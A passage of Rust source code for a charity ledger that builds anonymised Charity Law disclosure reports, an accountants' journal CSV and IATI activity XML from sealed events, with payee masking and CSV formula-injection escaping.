//! Finance reports and exports as plain functions over events, ready for the CLI and for
//! HTTP routes: the Charity Law disclosure report per project and period (HTML and CSV),
//! the trial balance, the transactions CSV for accountants, IATI activity XML and a
//! 360Giving-style grants CSV. Everything meant for publication is anonymous: no donor
//! reference or name appears in it; payees of help requests and micro-wishes (people) are
//! masked too.
//!
//! Each builder is a fold: feed it sealed events in order with `push`, then `finish` or
//! write. Nothing here reads storage.

use std::collections::BTreeMap;
use std::io::Write;

use events::{Channel, Currency, EventBody, Id, ProjectKind, SealedEvent};
use projections::journal::{Books, FundStatement, JournalEntry, Side};
use projections::ProjectionError;
use serde::Serialize;

use crate::statement::{format_milli_minor, format_minor};

/// An error writing a report.
#[derive(Debug, thiserror::Error)]
pub enum ReportError {
    #[error(transparent)]
    Projection(#[from] ProjectionError),
    #[error("writing: {0}")]
    Io(#[from] std::io::Error),
    #[error("writing CSV: {0}")]
    Csv(#[from] csv::Error),
    #[error("writing XML: {0}")]
    Xml(String),
    #[error("project {0} does not exist")]
    UnknownProject(Id),
    #[error("to: project {project} was opened on {opened}, after the period (its last day is {last_day}); choose a period from {opened}")]
    OpenedAfterPeriod {
        project: Id,
        opened: String,
        last_day: String,
    },
    #[error("{field}: {reason}")]
    Invalid { field: &'static str, reason: String },
}

/// UTC+8 date of a timestamp, `YYYY-MM-DD`, for documents read in China.
pub fn china_date(ts_ms: u64) -> String {
    date_at(ts_ms, 480)
}

/// The local date of a timestamp at an offset east of UTC in minutes.
pub fn date_at(ts_ms: u64, utc_offset_minutes: i32) -> String {
    let ms = ts_ms as i64 + i64::from(utc_offset_minutes) * 60_000;
    chrono::DateTime::from_timestamp_millis(ms)
        .map(|d| d.format("%Y-%m-%d").to_string())
        .unwrap_or_default()
}

/// A payout as disclosed: who was paid what, for which purpose, with the document's hash.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct DisclosedPayout {
    pub payout_seq: u64,
    pub requested_date: String,
    pub approved_date: Option<String>,
    pub paid_date: Option<String>,
    pub amount_minor: u64,
    pub currency: Currency,
    /// The payee, or "个人受助人 (individual recipient)" for help requests and micro-wishes.
    pub payee: String,
    pub purpose: String,
    pub document_sha256: String,
    pub status: &'static str,
}

/// The Charity Law disclosure of one project for one period: what was raised, matched and
/// spent in the period, the balance at its start and end, and every payout with its purpose.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Disclosure {
    pub ledger: String,
    pub project: Id,
    pub project_name: String,
    pub kind: &'static str,
    pub currency: Currency,
    pub period_start: String,
    pub period_end: String,
    /// The last event included.
    pub through_seq: Option<u64>,
    pub opening_balance_minor: i128,
    pub donations_gross_minor: i128,
    /// Channel fees net of those given back on refunds (the fund's 5101 balance moved).
    pub fees_minor: i128,
    pub refunded_minor: i128,
    pub matched_minor: i128,
    pub spent_minor: i128,
    pub moved_in_minor: i128,
    pub moved_out_minor: i128,
    pub closing_balance_minor: i128,
    pub payable_minor: i128,
    pub donation_count: u64,
    pub payouts: Vec<DisclosedPayout>,
}

/// A payee as the public sees it: a help request's or micro-wish's payee is a person, shown
/// only as "individual recipient" (the brief keeps personal help apart from public
/// fundraising); other payees (organisations, suppliers) as they are. Every public page,
/// API and export uses this.
pub fn masked_payee(kind: ProjectKind, payee: &str) -> String {
    masked_payee_of(Some(kind), payee)
}

/// [`masked_payee`] for a payout of `project` in `state`; a project the state does not know
/// yet (the read models lag the log by a moment) is masked.
pub fn public_payee(state: &projections::LedgerState, project: &Id, payee: &str) -> String {
    masked_payee_of(state.projects.get(project).map(|p| p.kind), payee)
}

fn masked_payee_of(kind: Option<ProjectKind>, payee: &str) -> String {
    match kind {
        Some(ProjectKind::CommunityProject | ProjectKind::GeneralFund) => payee.to_owned(),
        Some(ProjectKind::HelpRequest | ProjectKind::MicroWish) | None => {
            "个人受助人 (individual recipient)".into()
        }
    }
}

/// Builds a [`Disclosure`] for `[start_ms, end_ms)`.
pub struct DisclosureBuilder {
    books: Books,
    ledger: Option<Id>,
    project: Id,
    start_ms: u64,
    end_ms: u64,
    /// The fund statement when the period started; `Some(None)` when the project did not
    /// exist yet.
    opening: Option<Option<FundStatement>>,
    past_end: bool,
    /// When the project was opened, if that was after the period.
    opened_after: Option<u64>,
    donation_count: u64,
    through_seq: Option<u64>,
    payouts: BTreeMap<u64, DisclosedPayout>,
}

impl DisclosureBuilder {
    pub fn new(project: Id, start_ms: u64, end_ms: u64) -> Result<Self, ReportError> {
        if start_ms >= end_ms {
            return Err(ReportError::Invalid {
                field: "to",
                reason: "the period must end after it starts".into(),
            });
        }
        Ok(DisclosureBuilder {
            books: Books::default(),
            ledger: None,
            project,
            start_ms,
            end_ms,
            opening: None,
            past_end: false,
            opened_after: None,
            donation_count: 0,
            through_seq: None,
            payouts: BTreeMap::new(),
        })
    }

    /// Whether the caller may stop reading: the events are past the period and the project
    /// is known (a project not opened by the period's end is looked for further, so the
    /// report can say it was opened after the period rather than that it does not exist).
    pub fn is_done(&self) -> bool {
        self.past_end
            && (self.opened_after.is_some()
                || self.books.ledger.projects.contains_key(&self.project))
    }

    pub fn push(&mut self, event: &SealedEvent) -> Result<(), ReportError> {
        let r = event.record();
        self.ledger.get_or_insert_with(|| r.ledger.clone());
        if r.ts_ms >= self.start_ms && self.opening.is_none() {
            self.opening = Some(self.books.fund_statement(&self.project));
        }
        if self.past_end || r.ts_ms >= self.end_ms {
            self.past_end = true;
            if matches!(&r.body, EventBody::ProjectOpened(o) if o.project == self.project) {
                self.opened_after = Some(r.ts_ms);
            }
            return Ok(());
        }
        self.books.apply(event)?;
        self.through_seq = Some(r.seq);
        let in_period = r.ts_ms >= self.start_ms;
        let kind = self
            .books
            .ledger
            .projects
            .get(&self.project)
            .map(|p| p.kind);
        match &r.body {
            EventBody::DonationReceived(d) if in_period && d.project == self.project => {
                self.donation_count += 1;
            }
            EventBody::PayoutRequested(p) if p.project == self.project => {
                self.payouts.insert(
                    r.seq,
                    DisclosedPayout {
                        payout_seq: r.seq,
                        requested_date: china_date(r.ts_ms),
                        approved_date: None,
                        paid_date: None,
                        amount_minor: p.amount_minor.minor(),
                        currency: p.currency,
                        payee: masked_payee(
                            kind.unwrap_or(ProjectKind::CommunityProject),
                            p.payee.as_str(),
                        ),
                        purpose: p.purpose.to_string(),
                        document_sha256: p.document_sha256.to_hex(),
                        status: "requested",
                    },
                );
            }
            EventBody::PayoutApproved(d) => {
                if let Some(p) = self.payouts.get_mut(&d.request_seq) {
                    p.approved_date = Some(china_date(r.ts_ms));
                    p.status = "approved";
                }
            }
            EventBody::PayoutRejected(d) => {
                if let Some(p) = self.payouts.get_mut(&d.request_seq) {
                    p.status = "rejected";
                }
            }
            EventBody::PayoutDisbursed(d) => {
                if let Some(p) = self.payouts.get_mut(&d.payout_seq) {
                    p.paid_date = Some(china_date(r.ts_ms));
                    p.status = "paid";
                }
            }
            _ => {}
        }
        Ok(())
    }

    pub fn finish(self) -> Result<Disclosure, ReportError> {
        let project = self
            .books
            .ledger
            .projects
            .get(&self.project)
            .ok_or_else(|| match self.opened_after {
                Some(ts) => ReportError::OpenedAfterPeriod {
                    project: self.project.clone(),
                    opened: china_date(ts),
                    last_day: china_date(self.end_ms - 1),
                },
                None => ReportError::UnknownProject(self.project.clone()),
            })?;
        let closing = self
            .books
            .fund_statement(&self.project)
            .ok_or_else(|| ReportError::UnknownProject(self.project.clone()))?;
        let zero =
            projections::TrialBalance::default().fund_statement(&self.project, project.currency);
        let opening = match self.opening {
            // Every event is before the period: nothing changed in it.
            None => closing.clone(),
            Some(None) => zero,
            Some(Some(f)) => f,
        };
        let d = |f: fn(&FundStatement) -> i128| f(&closing) - f(&opening);
        let start = self.start_ms;
        let end = self.end_ms;
        // Payouts that moved in the period (requested, approved or paid in it).
        let payouts = self
            .payouts
            .into_values()
            .filter(|p| {
                let dates = [
                    Some(&p.requested_date),
                    p.approved_date.as_ref(),
                    p.paid_date.as_ref(),
                ];
                dates
                    .into_iter()
                    .flatten()
                    .any(|date| *date >= china_date(start) && *date < china_date(end))
            })
            .collect();
        Ok(Disclosure {
            ledger: self.ledger.map(|l| l.to_string()).unwrap_or_default(),
            project: project.id.clone(),
            project_name: project.name.to_string(),
            kind: project.kind.as_str(),
            currency: project.currency,
            period_start: china_date(start),
            period_end: china_date(end.saturating_sub(1)),
            through_seq: self.through_seq,
            opening_balance_minor: opening.balance_minor(),
            donations_gross_minor: d(|f| f.donations_gross_minor),
            fees_minor: d(|f| f.fees_minor - f.fees_returned_minor),
            refunded_minor: d(|f| f.refunded_minor),
            matched_minor: d(|f| f.matched_minor),
            spent_minor: d(|f| f.paid_out_minor),
            moved_in_minor: d(|f| f.moved_in_minor),
            moved_out_minor: d(|f| f.moved_out_minor),
            closing_balance_minor: closing.balance_minor(),
            payable_minor: closing.payable_minor,
            donation_count: self.donation_count,
            payouts,
        })
    }
}

impl Disclosure {
    /// The figures as (label, amount) rows, in the order both formats show them.
    pub fn figure_rows(&self) -> Vec<(&'static str, i128)> {
        vec![
            ("opening balance 期初余额", self.opening_balance_minor),
            (
                "donations received 本期募集 (gross)",
                self.donations_gross_minor,
            ),
            ("channel fees 支付渠道手续费", self.fees_minor),
            ("refunded 退款", self.refunded_minor),
            ("matched 配捐", self.matched_minor),
            ("spent 本期支出 (paid out)", self.spent_minor),
            ("moved in 转入", self.moved_in_minor),
            ("moved out 转出", self.moved_out_minor),
            ("closing balance 期末余额", self.closing_balance_minor),
            (
                "of which approved, not yet paid 已批准待支付",
                self.payable_minor,
            ),
        ]
    }

    /// The report as a self-contained HTML page.
    pub fn write_html(&self, out: &mut dyn Write) -> Result<(), ReportError> {
        let e = crate::web::esc;
        writeln!(
            out,
            "<!doctype html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">"
        )?;
        writeln!(
            out,
            "<title>{} 信息公开 {} – {}</title>",
            e(&self.project_name),
            self.period_start,
            self.period_end
        )?;
        writeln!(out, "<style>body{{font-family:sans-serif;max-width:60em;margin:2em auto}}table{{border-collapse:collapse}}td,th{{border:1px solid #999;padding:.3em .6em}}td.n{{text-align:right;font-variant-numeric:tabular-nums}}</style>\n</head>\n<body>")?;
        writeln!(
            out,
            "<h1>{} ({})</h1>\n<p>慈善项目信息公开 · Disclosure for {} – {} · ledger {} · through event {} · amounts in {}</p>",
            e(&self.project_name),
            e(self.project.as_str()),
            self.period_start,
            self.period_end,
            e(&self.ledger),
            self.through_seq.map(|s| s.to_string()).unwrap_or_else(|| "none".into()),
            self.currency
        )?;
        writeln!(out, "<h2>Figures 收支情况</h2>\n<table>")?;
        for (label, v) in self.figure_rows() {
            writeln!(
                out,
                "<tr><th scope=\"row\">{}</th><td class=\"n\">{}</td></tr>",
                e(label),
                format_minor(v)
            )?;
        }
        writeln!(
            out,
            "<tr><th scope=\"row\">donations 捐赠笔数</th><td class=\"n\">{}</td></tr>\n</table>",
            self.donation_count
        )?;
        writeln!(out, "<h2>Payouts 资金使用</h2>\n<table>\n<tr><th>#</th><th>requested</th><th>approved</th><th>paid</th><th>amount</th><th>payee</th><th>purpose</th><th>status</th><th>document SHA-256</th></tr>")?;
        for p in &self.payouts {
            writeln!(
                out,
                "<tr><td>{}</td><td>{}</td><td>{}</td><td>{}</td><td class=\"n\">{}</td><td>{}</td><td>{}</td><td>{}</td><td><code>{}</code></td></tr>",
                p.payout_seq,
                p.requested_date,
                p.approved_date.as_deref().unwrap_or(""),
                p.paid_date.as_deref().unwrap_or(""),
                format_minor(i128::from(p.amount_minor)),
                e(&p.payee),
                e(&p.purpose),
                p.status,
                p.document_sha256
            )?;
        }
        writeln!(out, "</table>\n<p>Donors are not named. Every figure can be checked against the published, hash-chained ledger.</p>\n</body>\n</html>")?;
        Ok(())
    }

    /// The report as CSV: the figures (section `figure`), then one row per payout
    /// (section `payout`).
    pub fn write_csv(&self, out: &mut dyn Write) -> Result<(), ReportError> {
        let mut w = csv::WriterBuilder::new().flexible(true).from_writer(out);
        write_row(
            &mut w,
            [
                "section",
                "project",
                "period_start",
                "period_end",
                "item",
                "amount",
                "currency",
            ],
        )?;
        for (label, v) in self.figure_rows() {
            write_row(
                &mut w,
                [
                    "figure",
                    self.project.as_str(),
                    &self.period_start,
                    &self.period_end,
                    label,
                    &format_minor(v),
                    self.currency.as_str(),
                ],
            )?;
        }
        write_row(
            &mut w,
            [
                "figure",
                self.project.as_str(),
                &self.period_start,
                &self.period_end,
                "donations 捐赠笔数",
                &self.donation_count.to_string(),
                "",
            ],
        )?;
        write_row(
            &mut w,
            [
                "section",
                "payout_seq",
                "requested_date",
                "approved_date",
                "paid_date",
                "amount",
                "currency",
                "payee",
                "purpose",
                "status",
                "document_sha256",
            ],
        )?;
        for p in &self.payouts {
            write_row(
                &mut w,
                [
                    "payout",
                    &p.payout_seq.to_string(),
                    &p.requested_date,
                    p.approved_date.as_deref().unwrap_or(""),
                    p.paid_date.as_deref().unwrap_or(""),
                    &format_minor(i128::from(p.amount_minor)),
                    p.currency.as_str(),
                    &p.payee,
                    &p.purpose,
                    p.status,
                    &p.document_sha256,
                ],
            )?;
        }
        w.flush()?;
        Ok(())
    }
}

/// Writes one CSV row with every cell made safe to open in a spreadsheet ([`csv_cell`]).
fn write_row<W: Write, I, F>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    I: IntoIterator<Item = F>,
    F: AsRef<str>,
{
    w.write_record(cells.into_iter().map(|c| csv_cell(c.as_ref()).into_owned()))
}

/// A CSV cell that a spreadsheet shows as text, never runs as a formula: text starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return (a project name, a payee, a purpose, a
/// memo) gets a leading `'`, as OWASP advises against CSV injection. Numbers (`-12.50`) are
/// left as they are, so amount columns stay numeric.
pub fn csv_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = {
        let digits = cell.strip_prefix('-').unwrap_or(cell);
        let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
        !whole.is_empty()
            && !fraction.is_empty()
            && whole
                .bytes()
                .chain(fraction.bytes())
                .all(|b| b.is_ascii_digit())
    };
    if risky && !number {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Writes the journal as CSV for accountants: one row per posting (seq, date, event,
/// memo, account key, code, title, project, debit, credit, currency). Internal: carries
/// channel transaction ids and receipt codes, never a donor reference.
pub struct JournalCsv<W: Write> {
    books: Books,
    writer: csv::Writer<W>,
    rows: u64,
}

impl<W: Write> JournalCsv<W> {
    pub fn new(out: W) -> Result<Self, ReportError> {
        let mut writer = csv::Writer::from_writer(out);
        write_row(
            &mut writer,
            [
                "seq", "date", "event", "memo", "account", "code", "title", "project", "debit",
                "credit", "currency",
            ],
        )?;
        Ok(JournalCsv {
            books: Books::default(),
            writer,
            rows: 0,
        })
    }

    pub fn push(&mut self, event: &SealedEvent) -> Result<JournalEntry, ReportError> {
        let entry = self.books.apply(event)?;
        for p in &entry.postings {
            let (debit, credit) = match p.side {
                Side::Debit => (format_minor(i128::from(p.amount_minor)), String::new()),
                Side::Credit => (String::new(), format_minor(i128::from(p.amount_minor))),
            };
            write_row(
                &mut self.writer,
                [
                    entry.seq.to_string().as_str(),
                    &china_date(entry.ts_ms),
                    entry.event_type,
                    &entry.memo,
                    &p.account.key(),
                    p.account.code(),
                    p.account.title(),
                    p.account.project().map(Id::as_str).unwrap_or(""),
                    &debit,
                    &credit,
                    p.currency.as_str(),
                ],
            )?;
            self.rows += 1;
        }
        Ok(entry)
    }

    /// Flushes and returns the number of posting rows written.
    pub fn finish(mut self) -> Result<u64, ReportError> {
        self.writer.flush()?;
        Ok(self.rows)
    }
}

/// Where a publication export is from.
#[derive(Debug, Clone)]
pub struct Publisher {
    /// The organisation identifier, e.g. `CN-USCC-51410100MJ0000000X` (IATI org id) or a
    /// 360Giving prefix such as `360G-erqi`.
    pub org_id: String,
    pub org_name: String,
    /// The publisher's IATI OrganisationType code, e.g. `22` (national NGO); checked
    /// against [`IATI_ORGANISATION_TYPES`] by the CLI.
    pub org_type: String,
    /// ISO 3166-1 country of the activities.
    pub country: String,
    /// The activities' sector: an OECD DAC 5-digit purpose code (IATI Sector vocabulary 1),
    /// e.g. `16010` (social protection). IATI requires a sector on every activity.
    pub sector: String,
    /// The 360Giving publisher prefix (`360G-…`): grant identifiers, and the identifiers of
    /// individual recipients and of payees without a registration number, start with it.
    pub prefix_360g: String,
}

/// The IATI OrganisationType codelist: code and name.
pub const IATI_ORGANISATION_TYPES: [(&str, &str); 16] = [
    ("10", "Government"),
    ("11", "Local Government"),
    ("15", "Other Public Sector"),
    ("21", "International NGO"),
    ("22", "National NGO"),
    ("23", "Regional NGO"),
    ("24", "Partner Country based NGO"),
    ("30", "Public Private Partnership"),
    ("40", "Multilateral"),
    ("60", "Foundation"),
    ("70", "Private Sector"),
    ("71", "Private Sector in Provider Country"),
    ("72", "Private Sector in Aid Recipient Country"),
    ("73", "Private Sector in Third Country"),
    ("80", "Academic, Training and Research"),
    ("90", "Other"),
];

/// IATI transaction type codes (IATI 2.03 codelist TransactionType). Mind the numbering:
/// incoming funds are 1, and 12 is an *outgoing* pledge.
pub mod iati_type {
    pub const INCOMING_FUNDS: &str = "1";
    pub const OUTGOING_COMMITMENT: &str = "2";
    pub const DISBURSEMENT: &str = "3";
    pub const EXPENDITURE: &str = "4";
    pub const INCOMING_COMMITMENT: &str = "11";
    pub const INCOMING_PLEDGE: &str = "13";
}

/// The IATI identifier of a project's activity: the publisher's org id and the project id.
fn activity_identifier(publisher: &Publisher, project: &Id) -> String {
    format!("{}-{}", publisher.org_id, project)
}

/// The other side of a transaction.
#[derive(Debug, Clone)]
enum Party {
    /// An organisation or group outside the publisher, by name: a sponsor, a payee (masked
    /// when a person), a payment channel, "individual donors (anonymous)".
    Named(String),
    /// Another of the publisher's own activities (a move between projects). Written with
    /// the publisher's org id and that activity's IATI identifier
    /// (`provider-activity-id` / `receiver-activity-id`), so a reader follows the money
    /// from one activity to the other.
    Activity(Id),
}

#[derive(Debug, Clone)]
struct IatiTransaction {
    code: &'static str,
    date: String,
    value_minor: i128,
    currency: Currency,
    description: String,
    provider: Option<Party>,
    receiver: Option<Party>,
    reference: String,
}

/// One day's gifts through one channel, in minor units: how many, their gross amount and
/// fees, the gifts refunded that day and the fees given back that day (on those refunds,
/// and by corrections of earlier ones).
#[derive(Debug, Clone, Copy, Default)]
struct DailyGifts {
    count: u64,
    gross: u64,
    fees: u64,
    refunds: u64,
    fees_returned: u64,
}

#[derive(Debug, Clone)]
struct IatiActivity {
    id: Id,
    name: String,
    kind: ProjectKind,
    currency: Currency,
    opened_date: String,
    closed_date: Option<String>,
    transactions: Vec<IatiTransaction>,
    /// Gifts aggregated per (date, channel).
    daily: BTreeMap<(String, Channel), DailyGifts>,
    /// Matches aggregated per (date, pool): count, allocated, released, sponsor.
    daily_matches: BTreeMap<(String, Id), (u64, u64, u64, String)>,
}

/// Builds an IATI 2.03 activity file: one `iati-activity` per project, whose transactions
/// add up to the project's fund statement ([`FundStatement`]) to the fen, type by type:
///
/// - incoming funds (1): gifts per day and channel (provider "individual donors
///   (anonymous)"), refunds negative; matches per day and pool (provider: the sponsor),
///   released matches negative; a move in (provider: the sending activity). Adds up to
///   gross − refunded + matched + moved in.
/// - expenditure (4): channel fees per day and channel, fees given back on refunds
///   negative. Adds up to the fees less the fees returned.
/// - outgoing commitment (2): an approved payout (receiver: the payee, masked for a
///   person); an approved move out (receiver: the receiving activity). Adds up to
///   programme cost + moved out.
/// - disbursement (3): a paid payout; an approved move out (a move is done when approved:
///   the books move the money then). Adds up to paid out + moved out.
/// - incoming pledge (13): a pledge (provider: the sponsor); when it is cancelled, the part
///   not given is withdrawn by a negative 13 (and so is a gift towards it refunded after).
///   Adds up to the pledges outstanding + what was given towards the pledges.
/// - incoming commitment (11): a matching pool's cap, split evenly over its projects; when
///   the pool closes, each project's commitment is set to the matches it keeps (the unused
///   cap withdrawn), and a match released after that lowers it again. Adds up to open
///   pools' shares + closed pools' matches (matching income).
///
/// So 1 − 4 − 3 is the money held for the project (its balance), 1 − 4 − 2 its net assets,
/// and 2 − 3 what is approved and not yet paid. A move is a disbursement between two of the
/// publisher's own activities (the codelist's "funds transferred between two separately
/// reported activities"), taken in as incoming funds by the other, the two linked by
/// `receiver-activity-id` and `provider-activity-id`. Pledges and pool commitments are
/// reported as IATI consumers read commitments: in full when made, lowered by a negative
/// transaction when they no longer stand, so that commitment − incoming funds is what is
/// still to come, and a cancelled pledge or closed pool leaves nothing to come.
pub struct IatiBuilder {
    books: Books,
    /// Payee and purpose of each payout request.
    texts: BTreeMap<u64, (String, String)>,
    activities: BTreeMap<Id, IatiActivity>,
    /// The incoming pledge (13) published so far, per pledge seq.
    pledges_published: BTreeMap<u64, u64>,
    /// The incoming commitment (11) published so far, per (pool, project).
    commitments_published: BTreeMap<(Id, Id), u64>,
    last_ts_ms: u64,
}

impl Default for IatiBuilder {
    fn default() -> Self {
        IatiBuilder::new()
    }
}

fn channel_name(c: Channel) -> &'static str {
    match c {
        Channel::Wechat => "WeChat Pay",
        Channel::Alipay => "Alipay",
        Channel::Bank => "bank transfer",
        Channel::Cash => "cash",
        Channel::CharityMall => "charity mall",
    }
}

/// What a pledge stands at on the IATI file: its amount while it stands; once cancelled,
/// the part given towards it (gifts net of refunds, which never pass the amount).
fn pledge_published_minor(p: &projections::Pledge) -> u64 {
    if p.cancelled {
        p.fulfilled.min(p.amount_minor)
    } else {
        p.amount_minor
    }
}

/// What a pool commits to its `index`th project on the IATI file: while the pool is open,
/// its cap split evenly, the first projects taking one fen more each until the shares add
/// up to the cap exactly; once closed, the matches the project keeps from it (matching
/// income in the books).
fn commitment_published_minor(
    pool: &projections::Pool,
    index: usize,
    books: &Books,
    seq: u64,
) -> Result<u64, ProjectionError> {
    if pool.open {
        let count = pool.projects.len().max(1) as u64;
        let (share, rest) = (pool.total_cap_minor / count, pool.total_cap_minor % count);
        return Ok(share + u64::from((index as u64) < rest));
    }
    let income = books.trial.turnover(
        pool.currency,
        &projections::Account::MatchingIncome {
            pool: pool.id.clone(),
            project: pool.projects[index].clone(),
        },
    );
    u64::try_from(-income.balance()).map_err(|_| ProjectionError::Invariant {
        seq,
        what: format!("matching income from pool {} has a debit balance", pool.id),
    })
}

impl IatiBuilder {
    pub fn new() -> IatiBuilder {
        IatiBuilder {
            books: Books::default(),
            texts: BTreeMap::new(),
            activities: BTreeMap::new(),
            pledges_published: BTreeMap::new(),
            commitments_published: BTreeMap::new(),
            last_ts_ms: 0,
        }
    }

    pub fn push(&mut self, event: &SealedEvent) -> Result<(), ReportError> {
        let before = self.books.ledger.clone();
        self.books.apply(event)?;
        let r = event.record();
        self.last_ts_ms = r.ts_ms;
        let date = china_date(r.ts_ms);
        let reference = format!("{}-{}", r.ledger, r.seq);
        let tx = |code, value_minor: u64, currency, description: String| IatiTransaction {
            code,
            date: date.clone(),
            value_minor: i128::from(value_minor),
            currency,
            description,
            provider: None,
            receiver: None,
            reference: reference.clone(),
        };
        match &r.body {
            EventBody::ProjectOpened(p) => {
                self.activities.insert(
                    p.project.clone(),
                    IatiActivity {
                        id: p.project.clone(),
                        name: p.name.to_string(),
                        kind: p.kind,
                        currency: p.currency,
                        opened_date: date.clone(),
                        closed_date: None,
                        transactions: Vec::new(),
                        daily: BTreeMap::new(),
                        daily_matches: BTreeMap::new(),
                    },
                );
            }
            EventBody::ProjectClosed(p) => {
                if let Some(a) = self.activities.get_mut(&p.project) {
                    a.closed_date = Some(date.clone());
                }
            }
            EventBody::DonationReceived(d) => {
                if let Some(a) = self.activities.get_mut(&d.project) {
                    let e = a.daily.entry((date.clone(), d.channel)).or_default();
                    e.count += 1;
                    e.gross += d.amount_minor.minor();
                    e.fees += d.fee_minor;
                }
            }
            // A refund, and a fee given back on it: with it, or by a correction later (then
            // on the correction's day, as the journal books it).
            EventBody::DonationRefunded(_) | EventBody::RefundFeeReturned(_) => {
                if let Some((d, fee_returned)) = before.fee_returned_by(&r.body) {
                    if let Some(a) = self.activities.get_mut(&d.project) {
                        let e = a.daily.entry((date.clone(), d.channel)).or_default();
                        if matches!(r.body, EventBody::DonationRefunded(_)) {
                            e.refunds += d.amount_minor;
                        }
                        e.fees_returned += fee_returned;
                    }
                }
            }
            EventBody::MatchAllocated(events::MatchAllocated {
                pool,
                project,
                amount_minor,
                ..
            })
            | EventBody::MatchReleased(events::MatchReleased {
                pool,
                project,
                amount_minor,
                ..
            })
            | EventBody::MatchRevoked(events::MatchReview {
                pool,
                project,
                amount_minor,
                ..
            }) => {
                let sponsor = before
                    .pools
                    .get(pool)
                    .map(|p| p.sponsor.to_string())
                    .unwrap_or_default();
                // Released with a refund or after review: the same money back to the pool.
                let released = matches!(
                    r.body,
                    EventBody::MatchReleased(_) | EventBody::MatchRevoked(_)
                );
                if let Some(a) = self.activities.get_mut(project) {
                    let e = a
                        .daily_matches
                        .entry((date.clone(), pool.clone()))
                        .or_insert((0, 0, 0, sponsor));
                    if released {
                        e.2 += amount_minor.minor();
                    } else {
                        e.0 += 1;
                        e.1 += amount_minor.minor();
                    }
                }
            }
            EventBody::PayoutRequested(p) => {
                self.texts
                    .insert(r.seq, (p.payee.to_string(), p.purpose.to_string()));
            }
            // Approved: the project's money is committed to the payee (programme cost in
            // the books, payable until it is paid).
            EventBody::PayoutApproved(x) => {
                if let Some(p) = before.payouts.get(&x.request_seq) {
                    let texts = self.texts.get(&x.request_seq).cloned();
                    if let Some(a) = self.activities.get_mut(&p.project) {
                        let (payee, purpose) = texts.unwrap_or_default();
                        let mut t = tx(
                            iati_type::OUTGOING_COMMITMENT,
                            p.amount_minor,
                            p.currency,
                            purpose,
                        );
                        t.receiver = Some(Party::Named(masked_payee(a.kind, &payee)));
                        a.transactions.push(t);
                    }
                }
            }
            EventBody::PayoutDisbursed(x) => {
                if let Some(p) = before.payouts.get(&x.payout_seq) {
                    let texts = self.texts.get(&x.payout_seq).cloned();
                    if let Some(a) = self.activities.get_mut(&p.project) {
                        let (payee, purpose) = texts.unwrap_or_default();
                        let mut t =
                            tx(iati_type::DISBURSEMENT, p.amount_minor, p.currency, purpose);
                        t.receiver = Some(Party::Named(masked_payee(a.kind, &payee)));
                        a.transactions.push(t);
                    }
                }
            }
            // Approved, a move is done: the books move the money between the two funds at
            // once. The sending activity commits and disburses it to the receiving one,
            // which takes it in as incoming funds.
            EventBody::MoveApproved(x) => {
                // The books refused a move without a receiving project already.
                let request = before.moves.get(&x.request_seq);
                if let Some((m, to)) = request.and_then(|m| Some((m, m.to_project.clone()?))) {
                    let from = m.project.clone();
                    let reason = m.reason.as_ref().map(|t| t.to_string()).unwrap_or_default();
                    let name = |id: &Id| {
                        self.activities
                            .get(id)
                            .map(|a| format!("{} ({id})", a.name))
                            .unwrap_or_else(|| id.to_string())
                    };
                    let out_text = format!("moved to {}: {reason}", name(&to));
                    let in_text = format!("moved from {}: {reason}", name(&from));
                    if let Some(a) = self.activities.get_mut(&from) {
                        for code in [iati_type::OUTGOING_COMMITMENT, iati_type::DISBURSEMENT] {
                            let mut t = tx(code, m.amount_minor, m.currency, out_text.clone());
                            t.receiver = Some(Party::Activity(to.clone()));
                            a.transactions.push(t);
                        }
                    }
                    if let Some(a) = self.activities.get_mut(&to) {
                        let mut t = tx(
                            iati_type::INCOMING_FUNDS,
                            m.amount_minor,
                            m.currency,
                            in_text,
                        );
                        t.provider = Some(Party::Activity(from));
                        a.transactions.push(t);
                    }
                }
            }
            _ => {}
        }
        self.follow_pledge(&before, r, &date, &reference);
        self.follow_pool(r, &date, &reference)?;
        Ok(())
    }

    /// Publishes the change in what a pledge stands at ([`pledge_published_minor`]): the
    /// pledge when made, and the part not given withdrawn when it is cancelled (or a gift
    /// towards a cancelled pledge refunded).
    fn follow_pledge(
        &mut self,
        before: &projections::LedgerState,
        r: &events::EventRecord,
        date: &str,
        reference: &str,
    ) {
        let pledge_seq = match &r.body {
            EventBody::PledgeMade(_) => Some(r.seq),
            EventBody::PledgeCancelled(p) => Some(p.pledge_seq),
            EventBody::DonationReceived(d) => d.pledge_seq,
            EventBody::DonationRefunded(x) => before
                .donations
                .get(&x.donation_seq)
                .and_then(|d| d.pledge_seq),
            _ => None,
        };
        let Some(pledge) = pledge_seq.and_then(|seq| self.books.ledger.pledges.get(&seq)) else {
            return;
        };
        let Some(a) = self.activities.get_mut(&pledge.project) else {
            return;
        };
        let published = self.pledges_published.entry(pledge.seq).or_insert(0);
        let now = pledge_published_minor(pledge);
        if now == *published {
            return;
        }
        let description = match &r.body {
            EventBody::PledgeMade(_) => "pledge".to_owned(),
            EventBody::PledgeCancelled(_) => {
                format!(
                    "pledge {} cancelled: the part not given is withdrawn",
                    pledge.seq
                )
            }
            _ => format!(
                "cancelled pledge {}: a gift towards it was refunded",
                pledge.seq
            ),
        };
        a.transactions.push(IatiTransaction {
            code: iati_type::INCOMING_PLEDGE,
            date: date.to_owned(),
            value_minor: i128::from(now) - i128::from(*published),
            currency: pledge.currency,
            description,
            provider: Some(Party::Named(pledge.sponsor.to_string())),
            receiver: None,
            reference: reference.to_owned(),
        });
        *published = now;
    }

    /// Publishes the change in what a matching pool commits to each of its projects
    /// ([`commitment_published_minor`]): the shares of its cap when committed; the matches
    /// each project keeps when it closes; a match released after that.
    fn follow_pool(
        &mut self,
        r: &events::EventRecord,
        date: &str,
        reference: &str,
    ) -> Result<(), ReportError> {
        // A match changes only its project's commitment, and only once the pool is closed.
        let (pool_id, only) = match &r.body {
            EventBody::MatchingPoolCommitted(p) => (&p.pool, None),
            EventBody::MatchingPoolClosed(p) => (&p.pool, None),
